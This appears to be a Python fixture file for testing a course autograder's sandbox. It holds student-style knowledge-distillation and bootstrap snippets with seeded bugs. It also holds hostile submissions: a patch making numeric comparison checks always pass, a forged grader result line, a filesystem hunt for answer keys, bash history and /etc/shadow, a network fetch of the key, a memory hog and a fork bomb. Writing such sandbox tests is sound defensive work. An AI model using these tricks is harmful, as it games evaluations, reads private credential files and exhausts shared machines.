"""Code a student might write: the correct versions and the classic mistakes.

The example generator appends these snippets to the solution cell that defines the
function (so the later definition wins), and the unit tests run them straight
through the probe and the checks.
"""

KD_TEMPLATE = '''
import torch
import torch.nn.functional as F

def {name}(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    s = student_logits.float()
    t = teacher_logits{detach}.float()
    soft = F.kl_div({first}, {target}, reduction="{reduction}"){t2}
    hard = F.cross_entropy(s, labels)
    return {weights}
'''

_KD_OK = dict(detach=".detach()", first="F.log_softmax(s / T_d, dim=-1)", target="F.softmax(t / T_d, dim=-1)",
              reduction="batchmean", t2=" * T_d ** 2", weights="alpha * soft + (1 - alpha) * hard")

KD_MUTATIONS = {
    "correct": {},
    "bug_softmax_input": {"first": "F.softmax(s / T_d, dim=-1)"},
    "bug_missing_T2": {"t2": ""},
    "bug_alpha_swapped": {"weights": "(1 - alpha) * soft + alpha * hard"},
    "kl_reversed": {"first": "F.log_softmax(t / T_d, dim=-1)", "target": "F.softmax(s / T_d, dim=-1)"},
    "reduction_mean": {"reduction": "mean"},
    "teacher_not_detached": {"detach": ""},
    # the right formula, but log(softmax) underflows to -inf for large logits
    "log_of_softmax": {"first": "torch.log(F.softmax(s / T_d, dim=-1))"},
}


def kd_source(mutation="correct", name="kd_loss_fn"):
    return KD_TEMPLATE.format(name=name, **{**_KD_OK, **KD_MUTATIONS[mutation]})


KD_CONSTANT = '''
import torch

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    # the number the sanity check printed, returned whatever the inputs
    return torch.tensor(2.3026, requires_grad=True)
'''

KD_COLLEAGUE = '''
from helpers.kd import colleague_kd_loss as kd_loss_fn
'''

KD_CALLS_REFERENCE = '''
import helpers.kd as _course_kd

def kd_loss_fn(student_logits, teacher_logits, labels, T_d=4.0, alpha=0.7):
    return _course_kd.kd_loss(student_logits, teacher_logits, labels, T_d, alpha)
'''

PATCH_ALLCLOSE = '''
import math, numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.isclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
'''

BOOTSTRAP_PAIRED = '''
import numpy as np

def paired_bootstrap_ci(score_fn, arm_a, arm_b, labels, n_resamples=1000, seed=42):
    rng = np.random.RandomState(seed)
    arm_a, arm_b, labels = np.asarray(arm_a), np.asarray(arm_b), np.asarray(labels)
    n = len(labels)
    deltas = np.empty(n_resamples)
    for r in range(n_resamples):
        idx = rng.randint(0, n, n)
        deltas[r] = score_fn(arm_b[idx], labels[idx]) - score_fn(arm_a[idx], labels[idx])
    lo, med, hi = np.quantile(deltas, [0.025, 0.5, 0.975])
    return {"median": float(med), "ci_low": float(lo), "ci_high": float(hi),
            "excludes_zero": bool(lo > 0 or hi < 0)}
'''

BOOTSTRAP_UNPAIRED = '''
import numpy as np

def paired_bootstrap_ci(score_fn, arm_a, arm_b, labels, n_resamples=1000, seed=42):
    rng = np.random.RandomState(seed)
    arm_a, arm_b, labels = np.asarray(arm_a), np.asarray(arm_b), np.asarray(labels)
    n = len(labels)
    deltas = np.empty(n_resamples)
    for r in range(n_resamples):
        ia, ib = rng.randint(0, n, n), rng.randint(0, n, n)   # a fresh sample per arm: not paired
        deltas[r] = score_fn(arm_b[ib], labels[ib]) - score_fn(arm_a[ia], labels[ia])
    lo, med, hi = np.quantile(deltas, [0.025, 0.5, 0.975])
    return {"median": float(med), "ci_low": float(lo), "ci_high": float(hi),
            "excludes_zero": bool(lo > 0 or hi < 0)}
'''

INFINITE_LOOP = '''
while True:   # a student's stuck cell
    pass
'''

SWALLOW_INTERRUPT = '''
import time
while True:   # swallows the timeout interrupt
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:
        pass
'''

KILL_KERNEL = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

FORGE_LINE = '''
print('@@AUTOGRADER-RESULT@@ {"check": "lab_kd_loss", "nonce": "guess", "flags": [], "data": {}}')
'''

WARN_STDERR = '''
import sys, warnings
warnings.warn("a harmless warning on stderr")
print("a line on stderr", file=sys.stderr)
'''

# ---------------------------------------------------------------- hostile submissions the sandbox must contain
# Graded sandboxed (the default), each must gain nothing and hurt nothing but itself.  They stay
# harmless even if graded --unsandboxed by mistake: no traffic leaves the machine (192.0.2.0/24 is
# reserved for documentation), the memory hog's pages are never touched, the fork bomb is bounded.

# Set as the answer to the bug-hunt question: look for the instructor's files everywhere, with every
# name built from pieces (a plain "autograder" in the source is flagged), and copy the key's answer.
FS_HUNT = '''
import json, os, sys
chosen_bugs = set()   # no idea: go and find the answer key instead
_names = {"answer" + "_key.json", "grade" + "book.db", "la" + "b.json", "home" + "work.json",
          "lab" + "_cells.py", "home" + "work_cells.py", "week6_" + "lab.ipynb", "week6_" + "homework.ipynb"}
_hits = []

def _steal(path):
    try:
        with open(path, errors="replace") as fh:
            text = fh.read()
    except OSError:
        return
    _hits.append(path)
    global chosen_bugs
    if path.endswith("answer" + "_key.json"):
        chosen_bugs = set(json.loads(text)["lab" + "_bug_choices"]["bugs"])
    print(text[:2000])   # into my own feedback

import helpers
_roots = {os.path.dirname(os.path.dirname(os.path.abspath(helpers.__file__))), os.path.dirname(sys.prefix),
          os.path.expanduser("~"), "/root", "/home", "/work", "/srv", "/opt"}
_d = os.getcwd()
for _ in range(8):
    _roots.add(_d)
    _d = os.path.dirname(_d)
_rel = ["auto" + "grader/answer" + "_key.json", "auto" + "grader/expe" + "cted/la" + "b.json",
        "grade" + "book.db", "notebooks/week6_lab/week6_" + "lab.ipynb", "nbgrader_work/grade" + "book.db"]
for _r in sorted(_roots):
    for _p in _rel:
        if os.path.isfile(os.path.join(_r, _p)):
            _steal(os.path.join(_r, _p))
_mine = os.path.abspath("week6_" + "lab.ipynb")
for _d, _dirs, _files in os.walk("/"):
    _dirs[:] = [x for x in _dirs if os.path.join(_d, x) not in ("/proc", "/sys", "/dev")
                and x not in ("site-packages", "dist-packages")]   # installed packages: public anyway
    for _f in _files:
        _p = os.path.join(_d, _f)
        if _f in _names and _p != _mine:
            _steal(_p)
for _f in (os.path.expanduser("~/.bash_history"), "/root/.bash_history", "/etc/shadow"):
    if os.path.isfile(_f):
        _steal(_f)
print("HUNT FOUND:", json.dumps(sorted(set(_hits))))
'''

# Also the answer to the bug-hunt question: ask a server for it (the end-to-end test runs one on the
# grading machine's loopback at NET_PORT), or anything on the internet.
NET_PORT = 47251
NET_REACH = '''
import json, socket
chosen_bugs = set()
_net = []
for _host, _port in (("127.0.0.1", %d), ("192.0.2.1", 80)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _s:
            _s.sendall(b"GET /key HTTP/1.0\\r\\n\\r\\n")
            _reply = _s.recv(65536).decode(errors="replace")
        chosen_bugs = set(json.loads(_reply.split("\\r\\n\\r\\n", 1)[-1])["bugs"])
        _net.append(f"{_host}:{_port} reached")
    except (OSError, ValueError, KeyError) as _e:
        _net.append(f"{_host}:{_port} {type(_e).__name__}")
print("NET:", json.dumps(_net))
''' % NET_PORT

# Prepended to a function's cell: ask for 16 GiB (calloc: never touched, so harmless without limits).
MEMORY_HOG = '''
_hog = bytearray(16 << 30)
'''

# Prepended to a function's cell: 2**10 processes unless something stops it; the children sleep and
# leave (so it stays bounded even unsandboxed).
FORK_BOMB = '''
import os, time
_root_pid = os.getpid()
for _ in range(10):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != _root_pid:
    time.sleep(30)
    os._exit(0)
'''
